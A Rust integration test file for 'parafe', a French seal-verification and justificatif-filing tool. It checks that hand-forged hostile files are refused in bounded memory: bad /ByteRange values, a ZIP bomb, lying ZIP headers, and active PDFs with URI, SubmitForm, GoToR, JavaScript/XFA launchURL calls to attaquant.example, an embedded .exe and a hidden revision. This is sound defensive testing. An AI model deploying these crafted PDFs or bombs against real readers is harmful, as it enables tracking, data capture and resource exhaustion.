//! Issue 15, hostile files: a sealed PDF or an audit pack forged to crash `parafe verify` or to
//! exhaust its memory (items 7 and 14), active PDFs filed as justificatifs (item 11). Each is
//! refused in French, with exit code 2 or a 4xx, in bounded memory, and nothing is written.
//!
//! The files are made as an attacker would: bytes written by hand, a pack rewritten entry by
//! entry, a ZIP appended by Python's `zipfile`, a PDF signed by pyHanko.

use crate::pack::{deposer_http, lire_zip, reecrire_zip, traces};
use crate::service::{participant_ref, Plie};
use crate::support::{parafe, repo, sha256_hex, text, tool};
use reqwest::StatusCode;
use serde_json::{json, Value};
use std::io::Write;
use std::path::Path;
use std::process::{Command, Output, Stdio};

fn s(path: &Path) -> String {
    path.to_string_lossy().into_owned()
}

/// A data directory with the development keys of `parafe init`.
fn initialise() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let out = parafe(&["init", "--data-dir", &s(dir.path())]);
    assert!(out.status.success(), "parafe init : {}", text(&out.stderr));
    dir
}

/// `parafe verify` of `fichier` with the trust of `data`.
fn verifier(data: &Path, fichier: &Path) -> Output {
    parafe(&["verify", &s(fichier), "--data-dir", &s(data)])
}

/// Runs `commande` and returns its output and peak resident memory in KiB, as the kernel
/// counted it for that process alone (`wait4`'s `ru_maxrss`): exact, however fast it ends.
#[allow(clippy::zombie_processes)] // reaped by wait4, which std's wait cannot replace
fn avec_pic_de_memoire(commande: &mut Command) -> (Output, u64) {
    use std::io::Read;
    use std::os::unix::process::ExitStatusExt;
    let mut enfant = commande
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let lire = |mut flux: Box<dyn Read + Send>| {
        std::thread::spawn(move || {
            let mut octets = Vec::new();
            flux.read_to_end(&mut octets).unwrap();
            octets
        })
    };
    let stdout = lire(Box::new(enfant.stdout.take().unwrap()));
    let stderr = lire(Box::new(enfant.stderr.take().unwrap()));
    let pid = libc::pid_t::try_from(enfant.id()).unwrap();
    let mut statut = 0;
    // SAFETY: rusage is plain data, and the child is ours and not yet reaped.
    let mut usage: libc::rusage = unsafe { std::mem::zeroed() };
    let attendu = unsafe { libc::wait4(pid, &mut statut, 0, &mut usage) };
    assert_eq!(attendu, pid, "wait4 : {}", std::io::Error::last_os_error());
    let sortie = Output {
        status: std::process::ExitStatus::from_raw(statut),
        stdout: stdout.join().unwrap(),
        stderr: stderr.join().unwrap(),
    };
    (sortie, u64::try_from(usage.ru_maxrss).unwrap_or(0))
}

/// Rewrites the first signature's /ByteRange in place (same length, padded with spaces).
fn byte_range_remplace(pdf: &[u8], nouveau: &str) -> Vec<u8> {
    let cle = b"/ByteRange[";
    let debut = pdf.windows(cle.len()).position(|w| w == cle).unwrap() + cle.len() - 1;
    let fin = debut + pdf[debut..].iter().position(|&b| b == b']').unwrap() + 1;
    assert!(
        nouveau.len() <= fin - debut,
        "{nouveau} plus long que l'original"
    );
    let mut copie = pdf.to_vec();
    let remplace = format!("{nouveau:<width$}", width = fin - debut);
    copie[debut..fin].copy_from_slice(remplace.as_bytes());
    copie
}

/// Hostile /ByteRange values: each makes a malformed file (exit 2), never a panic (101); what
/// the message must say.
const BYTE_RANGES_HOSTILES: [(&str, &[&str]); 6] = [
    ("[0 9223372036854775807 5 0]", &["« Cachet »", "/ByteRange"]),
    ("[0 -1 5 0]", &["« Cachet »", "/ByteRange"]),
    ("[0 900 100 20]", &["« Cachet »", "/ByteRange"]),
    (
        "[0 100 200 9223372036854775807]",
        &["« Cachet »", "/ByteRange"],
    ),
    (
        "[-9223372036854775808 1 2 3]",
        &["« Cachet »", "/ByteRange"],
    ),
    (
        "[0 18446744073709551616 5 0]",
        &["syntaxe incorrecte dans l'objet"],
    ),
];

#[test]
fn verify_byte_range_hostile_pdf_et_pack_sans_panique() {
    let data = initialise();
    let travail = tempfile::tempdir().unwrap();
    let scelle = travail.path().join("scelle.pdf");
    let out = parafe(&[
        "seal",
        &s(&repo().join("tests/support/typst-certificat.pdf")),
        "-o",
        &s(&scelle),
        "--data-dir",
        &s(data.path()),
    ]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let octets = std::fs::read(&scelle).unwrap();
    for (plage, attendu) in BYTE_RANGES_HOSTILES {
        let piege = travail.path().join("piege.pdf");
        std::fs::write(&piege, byte_range_remplace(&octets, plage)).unwrap();
        let out = verifier(data.path(), &piege);
        let err = text(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{plage} : {err}");
        assert!(
            attendu.iter().all(|a| err.contains(a)) && !err.contains("panicked"),
            "{plage} : {err}"
        );
    }

    // The same PDF inside a pack whose manifests were rewritten to match it: the pack is not
    // valid (exit 1) and says which file and why, in French.
    let plie = Plie::pret(None);
    let service = &plie.service;
    let assistant = service.compte("assistant@plie.fr", "assistant", Some("plie-test"));
    let demande = json!({ "operation": "202500417", "du": "2025-01-01", "au": "2026-12-31" });
    let zip = service.pack(&assistant, &demande);
    let pack = travail.path().join("pack.zip");
    std::fs::write(&pack, &zip).unwrap();
    let out = verifier(&service.data, &pack);
    assert!(out.status.success(), "{}", text(&out.stderr));

    let entrees = lire_zip(&pack);
    let index = &entrees.iter().find(|(n, _)| n == "index.pdf").unwrap().1;
    let faux = byte_range_remplace(index, BYTE_RANGES_HOSTILES[0].0);
    let piege = travail.path().join("pack-piege.zip");
    reecrire_pack(&entrees, &piege, "index.pdf", &faux);
    let out = verifier(&service.data, &piege);
    let err = text(&out.stderr) + &text(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(
        err.contains("index.pdf") && err.contains("/ByteRange") && !err.contains("panicked"),
        "{err}"
    );
}

/// The pack with `nom` replaced by `octets` and its three manifests rewritten to agree.
pub(crate) fn reecrire_pack(
    entrees: &[(String, Vec<u8>)],
    sortie: &Path,
    nom: &str,
    octets: &[u8],
) {
    let (_, avant) = entrees.iter().find(|(n, _)| n == nom).unwrap();
    let (ancienne, nouvelle) = (sha256_hex(avant), sha256_hex(octets));
    let (_, json) = entrees.iter().find(|(n, _)| n == "manifeste.json").unwrap();
    let mut manifeste: Value = serde_json::from_slice(json).unwrap();
    for f in manifeste["fichiers"].as_array_mut().unwrap() {
        if f["chemin"] == nom {
            f["sha256"] = json!(nouvelle);
            f["taille"] = json!(octets.len());
        }
    }
    let json = serde_json::to_vec_pretty(&manifeste).unwrap();
    reecrire_zip(entrees, sortie, |n, contenu| match n {
        n if n == nom => *contenu = octets.to_vec(),
        "manifeste.json" => *contenu = json.clone(),
        "manifeste.sha256" | "manifeste.csv" => {
            *contenu = String::from_utf8_lossy(contenu)
                .replace(&ancienne, &nouvelle)
                .into_bytes()
        }
        _ => {}
    });
}

/// A one-page PDF of `octets_image` bytes, most of them the data of one image stream, written
/// in blocks: a scanned justificatif of that size.
fn pdf_geant(chemin: &Path, octets_image: u64) {
    let mut f = std::io::BufWriter::new(std::fs::File::create(chemin).unwrap());
    let mut pos = 0u64;
    let mut offsets = Vec::new();
    let mut ecrire = |f: &mut std::io::BufWriter<std::fs::File>, octets: &[u8]| {
        f.write_all(octets).unwrap();
        pos += octets.len() as u64;
        pos
    };
    let mut ici = ecrire(&mut f, b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n");
    let contenu = b"q 595 0 0 842 0 0 cm /Im1 Do Q";
    let objets: [Vec<u8>; 4] = [
        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /Im1 5 0 R >> >> >>".to_vec(),
        [format!("<< /Length {} >>\nstream\n", contenu.len()).as_bytes(), contenu, b"\nendstream"].concat(),
    ];
    for (i, corps) in objets.iter().enumerate() {
        offsets.push(ici);
        ecrire(&mut f, format!("{} 0 obj\n", i + 1).as_bytes());
        ici = ecrire(&mut f, &[corps.as_slice(), b"\nendobj\n"].concat());
    }
    offsets.push(ici);
    ecrire(
        &mut f,
        format!("5 0 obj\n<< /Type /XObject /Subtype /Image /Width 16384 /Height {} /ColorSpace /DeviceGray /BitsPerComponent 8 /Length {octets_image} >>\nstream\n", octets_image / 16384).as_bytes(),
    );
    let bloc: Vec<u8> = (0..=255u8).cycle().take(1 << 20).collect();
    let mut reste = octets_image;
    while reste > 0 {
        let n = reste.min(bloc.len() as u64) as usize;
        ecrire(&mut f, &bloc[..n]);
        reste -= n as u64;
    }
    let xref = ecrire(&mut f, b"\nendstream\nendobj\n");
    let mut table = String::from("xref\n0 6\n0000000000 65535 f \n");
    for o in offsets {
        table += &format!("{o:010} 00000 n \n");
    }
    table += &format!("trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n");
    ecrire(&mut f, table.as_bytes());
    f.flush().unwrap();
}

#[test]
fn verify_d_un_pdf_de_1_gio_en_memoire_bornee() {
    let data = initialise();
    let travail = tempfile::tempdir().unwrap();
    let brut = travail.path().join("brut.pdf");
    pdf_geant(&brut, 1 << 30);
    // Signed by pyHanko with the PLIE's seal key: parafe did not write the signature.
    let signe = travail.path().join("signe.pdf");
    let cles = data.path().join("cles");
    let out = tool(
        "pyhanko",
        &[
            "sign",
            "addsig",
            "--field",
            "Cachet",
            "--use-pades",
            "pemder",
            "--no-pass",
            "--key",
            &s(&cles.join("cachet.cle.pem")),
            "--cert",
            &s(&cles.join("cachet.pem")),
            "--chain",
            &s(&cles.join("ac-dev.pem")),
            &s(&brut),
            &s(&signe),
        ],
    );
    assert!(out.status.success(), "pyhanko : {}", text(&out.stderr));
    std::fs::remove_file(&brut).unwrap();

    let (out, pic_ko) = avec_pic_de_memoire(Command::new(env!("CARGO_BIN_EXE_parafe")).args([
        "verify",
        &s(&signe),
        "--data-dir",
        &s(data.path()),
    ]));
    let rapport = text(&out.stdout) + &text(&out.stderr);
    assert!(
        out.status.success() && rapport.contains("VALIDE"),
        "{rapport}"
    );
    assert!(rapport.contains("tout le fichier"), "{rapport}");
    // A 1 GiB file, a bound far above what a verification by ranges needs (a few MB).
    assert!(
        pic_ko > 0 && pic_ko < 256 * 1024,
        "pic de mémoire {pic_ko} ko pour vérifier 1 Gio"
    );

    // The same file made larger than its signature covers: not valid, still bounded.
    let mut f = std::fs::OpenOptions::new()
        .append(true)
        .open(&signe)
        .unwrap();
    f.write_all(b"\n% ajout\n").unwrap();
    drop(f);
    let (out, pic_ko) = avec_pic_de_memoire(Command::new(env!("CARGO_BIN_EXE_parafe")).args([
        "verify",
        &s(&signe),
        "--data-dir",
        &s(data.path()),
    ]));
    assert_ne!(out.status.code(), Some(0));
    assert_ne!(out.status.code(), Some(101), "{}", text(&out.stderr));
    assert!(pic_ko < 256 * 1024, "pic de mémoire {pic_ko} ko");
}

#[test]
fn verify_refuse_un_pdf_aux_signatures_innombrables() {
    // Each signature field costs a pass over the file: 65 of them, all over a 1 Gio file,
    // would make a verification read 65 Gio.
    let champs: Vec<String> = (0..65)
        .map(|i| format!("<< /FT /Sig /T (S{i}) /V << /Type /Sig /ByteRange [0 10 20 5] /Contents <00> >> >>"))
        .collect();
    let refs: Vec<String> = (6..6 + champs.len()).map(|i| format!("{i} 0 R")).collect();
    let autres: Vec<(&str, Option<&[u8]>)> = champs.iter().map(|c| (c.as_str(), None)).collect();
    let pdf = pdf_ecrit(
        &format!("/AcroForm << /Fields [{}] >>", refs.join(" ")),
        "",
        &autres,
    );
    let data = initialise();
    let fichier = data.path().join("signatures.pdf");
    std::fs::write(&fichier, pdf).unwrap();
    let out = verifier(data.path(), &fichier);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("65 champs de signature"), "{err}");
}

/// A ZIP holding one entry `nom` of `taille` zero bytes, deflated (about 1000 to 1).
fn zip_bombe(chemin: &Path, nom: &str, taille: u64) {
    let mut zip = zip::ZipWriter::new(std::fs::File::create(chemin).unwrap());
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .compression_level(Some(9));
    zip.start_file(nom, options).unwrap();
    let bloc = vec![0u8; 1 << 20];
    for _ in 0..taille / bloc.len() as u64 {
        zip.write_all(&bloc).unwrap();
    }
    zip.finish().unwrap();
}

/// Sets the uncompressed size of every entry (local and central headers) to `taille`: the ZIP
/// now lies about what its entries inflate to.
fn mentir_sur_la_taille(zip: &mut [u8], taille: u32) {
    for (signature, champ) in [(b"PK\x03\x04", 22), (b"PK\x01\x02", 24)] {
        let positions: Vec<usize> = zip
            .windows(4)
            .enumerate()
            .filter(|(_, w)| w == signature)
            .map(|(i, _)| i)
            .collect();
        for p in positions {
            zip[p + champ..p + champ + 4].copy_from_slice(&taille.to_le_bytes());
        }
    }
}

#[test]
fn verify_d_un_pack_piege_en_memoire_bornee() {
    let data = initialise();
    let travail = tempfile::tempdir().unwrap();
    // 2 MB of ZIP that inflate to 2 GiB: the manifest a verification reads first.
    let bombe = travail.path().join("bombe.zip");
    zip_bombe(&bombe, "manifeste.json", 2 << 30);
    let taille = std::fs::metadata(&bombe).unwrap().len();
    assert!(taille < 4 << 20, "{taille} octets");
    // The same, whose headers say 1 000 bytes.
    let menteur = travail.path().join("menteur.zip");
    let mut octets = std::fs::read(&bombe).unwrap();
    mentir_sur_la_taille(&mut octets, 1000);
    std::fs::write(&menteur, &octets).unwrap();

    for (pack, attendu) in [
        (&bombe, "bombe de décompression"),
        (&menteur, "plus long que sa taille déclarée"),
    ] {
        let (out, pic_ko) = avec_pic_de_memoire(Command::new(env!("CARGO_BIN_EXE_parafe")).args([
            "verify",
            &s(pack),
            "--data-dir",
            &s(data.path()),
        ]));
        let err = text(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{}: {err}", pack.display());
        assert!(
            err.contains("manifeste.json") && err.contains(attendu),
            "{}: {err}",
            pack.display()
        );
        assert!(
            pic_ko > 0 && pic_ko < 256 * 1024,
            "{} : pic de mémoire {pic_ko} ko",
            pack.display()
        );
    }
}

/// A PDF written byte by byte: a catalog (`catalogue` adds entries to it), one page
/// (`page` adds entries to it) with a line of text, then `autres` as objects 6, 7…, each a
/// dictionary or, with data, a stream. Cross-reference table and trailer computed.
fn pdf_ecrit(catalogue: &str, page: &str, autres: &[(&str, Option<&[u8]>)]) -> Vec<u8> {
    let texte = b"BT /F1 14 Tf 72 720 Td (Bulletin de salaire - septembre 2025) Tj ET".as_slice();
    let mut objets: Vec<(String, Option<&[u8]>)> = vec![
        (format!("<< /Type /Catalog /Pages 2 0 R {catalogue} >>"), None),
        ("<< /Type /Pages /Kids [3 0 R] /Count 1 >>".into(), None),
        (format!("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> {page} >>"), None),
        ("<< >>".into(), Some(texte)),
        ("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".into(), None),
    ];
    objets.extend(autres.iter().map(|(d, f)| (d.to_string(), *f)));
    let mut pdf = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec();
    let mut offsets = Vec::new();
    for (i, (dict, flux)) in objets.iter().enumerate() {
        offsets.push(pdf.len());
        writeln!(pdf, "{} 0 obj", i + 1).unwrap();
        match flux {
            None => pdf.extend_from_slice(dict.as_bytes()),
            Some(donnees) => {
                let dict = dict.trim_end_matches(">>");
                write!(pdf, "{dict} /Length {} >>\nstream\n", donnees.len()).unwrap();
                pdf.extend_from_slice(donnees);
                pdf.extend_from_slice(b"\nendstream");
            }
        }
        pdf.extend_from_slice(b"\nendobj\n");
    }
    let xref = pdf.len();
    write!(pdf, "xref\n0 {}\n0000000000 65535 f \n", objets.len() + 1).unwrap();
    for o in offsets {
        writeln!(pdf, "{o:010} 00000 n ").unwrap();
    }
    write!(
        pdf,
        "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n",
        objets.len() + 1
    )
    .unwrap();
    pdf
}

/// Object `id` as an object stream would hold it, with the cross-reference stream of a
/// revision: `objets` are written in clear at their offsets (number, text), `dans_flux` go into
/// one uncompressed object stream, `libres` are freed; `prev` chains to the revision before.
fn revision_avec_flux(
    base: &[u8],
    objets: &[(u32, &str)],
    dans_flux: &[(u32, &str)],
    libres: &[u32],
    taille: u32,
    prev: Option<usize>,
) -> Vec<u8> {
    let mut pdf = base.to_vec();
    let mut entrees: Vec<(u32, u8, u64, u16)> = Vec::new();
    if prev.is_none() {
        entrees.push((0, 0, 0, 65535));
    }
    for (id, corps) in objets {
        entrees.push((*id, 1, pdf.len() as u64, 0));
        write!(pdf, "{id} 0 obj\n{corps}\nendobj\n").unwrap();
    }
    let conteneur = taille;
    if !dans_flux.is_empty() {
        let mut index = String::new();
        let mut corps = String::new();
        for (i, (id, texte)) in dans_flux.iter().enumerate() {
            index += &format!("{id} {} ", corps.len());
            corps += texte;
            corps += "\n";
            entrees.push((*id, 2, u64::from(conteneur), i as u16));
        }
        entrees.push((conteneur, 1, pdf.len() as u64, 0));
        let contenu = format!("{index}\n{corps}");
        write!(
            pdf,
            "{conteneur} 0 obj\n<< /Type /ObjStm /N {} /First {} /Length {} >>\nstream\n{contenu}\nendstream\nendobj\n",
            dans_flux.len(),
            index.len() + 1,
            contenu.len()
        )
        .unwrap();
    }
    for id in libres {
        entrees.push((*id, 0, 0, 1));
    }
    let xref_id = conteneur + 1;
    let xref = pdf.len();
    entrees.push((xref_id, 1, xref as u64, 0));
    entrees.sort();
    let mut donnees = Vec::new();
    let mut index = String::new();
    for (id, genre, champ, generation) in &entrees {
        index += &format!("{id} 1 ");
        donnees.push(*genre);
        donnees.extend_from_slice(&(*champ as u32).to_be_bytes());
        donnees.extend_from_slice(&generation.to_be_bytes());
    }
    let prev = prev.map(|p| format!("/Prev {p}")).unwrap_or_default();
    write!(
        pdf,
        "{xref_id} 0 obj\n<< /Type /XRef /Size {} /Root 1 0 R /W [1 4 2] /Index [{index}] {prev} /Length {} >>\nstream\n",
        xref_id + 1,
        donnees.len()
    )
    .unwrap();
    pdf.extend_from_slice(&donnees);
    write!(pdf, "\nendstream\nendobj\nstartxref\n{xref}\n%%EOF\n").unwrap();
    pdf
}

/// `startxref` of a PDF.
fn startxref(pdf: &[u8]) -> usize {
    let texte = String::from_utf8_lossy(&pdf[pdf.len() - 64..]).into_owned();
    let apres = texte.rsplit("startxref").next().unwrap();
    apres.split_whitespace().next().unwrap().parse().unwrap()
}

/// Objects 1 to 5 of [`pdf_ecrit`], as texts.
const PAGE: [&str; 4] = [
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [] /Resources << /Font << /F1 5 0 R >> >> >>",
    "<< >>",
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
];

/// What a controller's viewer could run or follow, and the French words its refusal must say.
pub fn pdf_actifs(travail: &Path) -> Vec<(&'static str, Vec<u8>, &'static str)> {
    let mz: &[u8] = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00This program cannot be run in DOS mode.";
    let uri = pdf_ecrit(
        "/OpenAction 6 0 R",
        "",
        &[(
            "<< /S /URI /URI (http://attaquant.example/pixel?piece=42) >>",
            None,
        )],
    );
    // The same through qpdf, its objects packed in a compressed object stream.
    let entree = travail.join("uri.pdf");
    let sortie = travail.join("uri-flux.pdf");
    std::fs::write(&entree, &uri).unwrap();
    let out = tool(
        "qpdf",
        &["--object-streams=generate", &s(&entree), &s(&sortie)],
    );
    assert!(
        out.status.code().is_some_and(|c| c == 0 || c == 3),
        "qpdf : {}",
        text(&out.stderr)
    );
    let uri_flux = std::fs::read(&sortie).unwrap();
    // A benign PDF with a ZIP appended by Python's zipfile: both a PDF and an archive.
    let polyglotte = travail.join("polyglotte.pdf");
    std::fs::write(&polyglotte, pdf_ecrit("", "", &[])).unwrap();
    let out = tool(
        "python3",
        &[
            "-c",
            "import sys, zipfile\nwith zipfile.ZipFile(sys.argv[1], 'a') as z: z.writestr('facture.exe', b'MZ' + bytes(200))",
            &s(&polyglotte),
        ],
    );
    assert!(out.status.success(), "python : {}", text(&out.stderr));
    // JavaScript run on opening in a first revision, inside an object stream and behind an
    // escaped name; a second revision drops it from the catalog and frees it.
    let mut base = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec();
    let page: Vec<(u32, &str)> = PAGE
        .iter()
        .enumerate()
        .map(|(i, t)| (i as u32 + 2, *t))
        .collect();
    let mut premiere: Vec<(u32, &str)> =
        vec![(1, "<< /Type /Catalog /Pages 2 0 R /Open#41ction 6 0 R >>")];
    premiere.extend(page);
    base = revision_avec_flux(
        &base,
        &premiere,
        &[(
            6,
            "<< /S /J#61vaScript /JS (app.launchURL\\(\"http://attaquant.example\"\\)) >>",
        )],
        &[],
        7,
        None,
    );
    let precedente = startxref(&base);
    let cachee = revision_avec_flux(
        &base,
        &[(1, "<< /Type /Catalog /Pages 2 0 R >>")],
        &[],
        &[6],
        9,
        Some(precedente),
    );
    vec![
        ("ouverture-adresse.pdf", uri, "/URI"),
        ("ouverture-adresse-flux.pdf", uri_flux, "/URI"),
        (
            "formulaire-envoye.pdf",
            pdf_ecrit(
                "/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://attaquant.example/collecte) >> /Flags 4 >>",
                "",
                &[],
            ),
            "/SubmitForm",
        ),
        (
            "partage-reseau.pdf",
            pdf_ecrit(
                "/OpenAction << /S /GoToR /F (\\\\\\\\attaquant.example\\\\partage\\\\piece.pdf) /D [0 /Fit] >>",
                "",
                &[],
            ),
            "/GoToR",
        ),
        (
            "lien-partage.pdf",
            pdf_ecrit(
                "",
                "/Annots [6 0 R]",
                &[("<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (file://attaquant.example/partage/piece.exe) >> >>", None)],
            ),
            "/URI",
        ),
        (
            "formulaire-xfa.pdf",
            pdf_ecrit(
                "/AcroForm << /Fields [] /XFA 6 0 R >>",
                "",
                &[("<< >>", Some(b"<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><template><subform><event activity=\"initialize\"><script contentType=\"application/x-javascript\">app.launchURL(\"http://attaquant.example\")</script></event></subform></template></xdp:xdp>"))],
            ),
            "XFA",
        ),
        (
            "piece-jointe.pdf",
            pdf_ecrit(
                "/Names << /EmbeddedFiles << /Names [(facture.exe) 6 0 R] >> >>",
                "",
                &[
                    ("<< /Type /Filespec /F (facture.exe) /EF << /F 7 0 R >> >>", None),
                    ("<< /Type /EmbeddedFile >>", Some(mz)),
                ],
            ),
            "fichier joint",
        ),
        (
            "executable-lance.pdf",
            pdf_ecrit(
                "/OpenAction << /S /Launch /F 6 0 R >>",
                "",
                &[
                    ("<< /Type /Filespec /F (facture.exe) /EF << /F 7 0 R >> >>", None),
                    ("<< /Type /EmbeddedFile >>", Some(mz)),
                ],
            ),
            "/Launch",
        ),
        (
            "polyglotte.pdf",
            std::fs::read(&polyglotte).unwrap(),
            "archive ZIP",
        ),
        ("revision-cachee.pdf", cachee, "révision"),
    ]
}

/// PDFs that must still be accepted: a link to a web page, opening at a page of the document.
fn pdf_sages() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        (
            "lien-web.pdf",
            pdf_ecrit(
                "/OpenAction [3 0 R /Fit]",
                "/Annots [6 0 R]",
                &[("<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (https://www.plie-paysdelor.fr/contact) >> >>", None)],
            ),
        ),
        (
            "ouverture-page.pdf",
            pdf_ecrit("/OpenAction << /S /GoTo /D [3 0 R /XYZ 0 842 0] >>", "", &[]),
        ),
    ]
}

#[test]
fn les_pdf_actifs_sont_refuses_au_depot_par_l_api_et_la_ligne_de_commande() {
    let Plie {
        dir,
        mut service,
        referent,
        ..
    } = Plie::pret(None);
    let samira = participant_ref(&service, &referent, "Benali");
    let travail = dir.path().join("pieces");
    std::fs::create_dir_all(&travail).unwrap();
    let champs = [
        ("participant", samira.as_str()),
        ("genre", "bulletin-salaire"),
    ];
    let avant = traces(&service, &referent, &samira);
    let actifs = pdf_actifs(&travail);
    for (nom, octets, attendu) in &actifs {
        let (status, v) = deposer_http(&service, &referent, &champs, (nom, octets));
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{nom} : {v}");
        let erreur = v["erreur"].as_str().unwrap_or_default();
        assert!(
            erreur.contains(attendu) && erreur.contains(nom),
            "{nom} : {erreur}"
        );
        assert_eq!(
            traces(&service, &referent, &samira),
            avant,
            "{nom} a laissé une trace"
        );
    }
    for (nom, octets) in pdf_sages() {
        let (status, v) = deposer_http(&service, &referent, &champs, (nom, &octets));
        assert_eq!(status, StatusCode::CREATED, "{nom} : {v}");
    }
    let apres = traces(&service, &referent, &samira);

    // The command line, with the service stopped: the same refusals, exit code 2.
    service.tuer();
    let data = s(&service.data);
    for (nom, octets, attendu) in &actifs {
        let chemin = travail.join(nom);
        std::fs::write(&chemin, octets).unwrap();
        let out = parafe(&[
            "justificatif",
            "deposer",
            &s(&chemin),
            "--operation",
            "202500417",
            "--participant",
            &samira,
            "--genre",
            "bulletin-salaire",
            "--par",
            "t.garnier@plie.fr",
            "--data-dir",
            &data,
        ]);
        let err = text(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{nom} : {err}");
        assert!(err.contains(attendu), "{nom} : {err}");
    }
    service.redemarrer();
    assert_eq!(traces(&service, &referent, &samira), apres);
}

/// The hand-written hostile PDFs, for the fuzzing seeds (no outside tool).
pub fn pdf_fabriques() -> Vec<Vec<u8>> {
    let mut base = b"%PDF-1.7\n".to_vec();
    let page: Vec<(u32, &str)> = PAGE
        .iter()
        .enumerate()
        .map(|(i, t)| (i as u32 + 2, *t))
        .collect();
    let mut objets: Vec<(u32, &str)> =
        vec![(1, "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>")];
    objets.extend(page);
    base = revision_avec_flux(
        &base,
        &objets,
        &[(6, "<< /S /URI /URI (http://a.example) >>")],
        &[],
        7,
        None,
    );
    let suite = revision_avec_flux(
        &base,
        &[(1, "<< /Type /Catalog /Pages 2 0 R >>")],
        &[],
        &[6],
        9,
        Some(startxref(&base)),
    );
    vec![
        base,
        suite,
        pdf_ecrit("/OpenAction << /S /GoToR /F (x.pdf) >>", "", &[]),
        pdf_ecrit(
            "/AcroForm << /XFA 6 0 R >>",
            "",
            &[("<< >>", Some(b"<xdp/>"))],
        ),
        pdf_sages().remove(0).1,
    ]
}

/// One entry taken out of the journal, in the pack's excerpt and in the data directory: both
/// verifications name the same break in the same words (one verifier of the journal).
#[test]
fn une_entree_supprimee_se_dit_pareil_dans_le_pack_et_dans_le_coffre() {
    let plie = Plie::pret(None);
    let service = &plie.service;
    let samira = participant_ref(service, &plie.referent, "Benali");
    let piece = std::fs::read(repo().join("tests/support/typst-certificat.pdf")).unwrap();
    for mois in ["janvier", "fevrier", "mars"] {
        let mut piece = piece.clone();
        piece.extend_from_slice(format!("\n% bulletin de {mois}\n").as_bytes());
        let (status, v) = deposer_http(
            service,
            &plie.referent,
            &[("participant", &samira), ("genre", "bulletin-salaire")],
            (&format!("bulletin-{mois}.pdf"), &piece),
        );
        assert!(status.is_success(), "{v}");
    }
    let demande = json!({ "operation": "202500417", "du": "2025-01-01", "au": "2026-12-31" });
    let travail = tempfile::tempdir().unwrap();
    let pack = travail.path().join("pack.zip");
    std::fs::write(&pack, service.pack(&plie.coordinateur, &demande)).unwrap();
    let entrees = lire_zip(&pack);
    let (nom, extrait) = entrees
        .iter()
        .find(|(n, _)| n.starts_with("journal/") && n.ends_with("-extrait.jsonl"))
        .unwrap_or_else(|| {
            panic!(
                "extrait du journal dans le pack : {:?}",
                entrees.iter().map(|e| &e.0).collect::<Vec<_>>()
            )
        });
    let sans_une_entree = |texte: &str| -> (String, u64) {
        let lignes: Vec<&str> = texte.lines().collect();
        assert!(lignes.len() >= 3, "{texte}");
        let seq = serde_json::from_str::<Value>(lignes[1]).unwrap()["seq"]
            .as_u64()
            .unwrap();
        let reste: Vec<&str> = [&lignes[..1], &lignes[2..]].concat();
        (reste.join("\n") + "\n", seq)
    };
    let (raccourci, seq) = sans_une_entree(&String::from_utf8_lossy(extrait));
    let piege = travail.path().join("pack-raccourci.zip");
    reecrire_pack(&entrees, &piege, nom, raccourci.as_bytes());
    let out = verifier(&service.data, &piege);
    let dit_le_pack = text(&out.stderr) + &text(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{dit_le_pack}");
    let attendu = format!("l'entrée n° {seq} manque (supprimée ?)");
    assert!(dit_le_pack.contains(&attendu), "{attendu} ? {dit_le_pack}");

    let segment = crate::service::segments_du_journal(&service.data)
        .into_iter()
        .find(|p| std::fs::read_to_string(p).unwrap().lines().count() >= 3)
        .expect("un segment de trois entrées");
    let (raccourci, seq) = sans_une_entree(&std::fs::read_to_string(&segment).unwrap());
    std::fs::write(&segment, raccourci).unwrap();
    let out = parafe(&["verify", "--store", "--data-dir", &s(&service.data)]);
    let dit_le_coffre = text(&out.stderr) + &text(&out.stdout);
    assert!(!out.status.success(), "{dit_le_coffre}");
    let attendu = format!("l'entrée n° {seq} manque (supprimée ?)");
    assert!(
        dit_le_coffre.contains(&attendu),
        "{attendu} ? {dit_le_coffre}"
    );
}
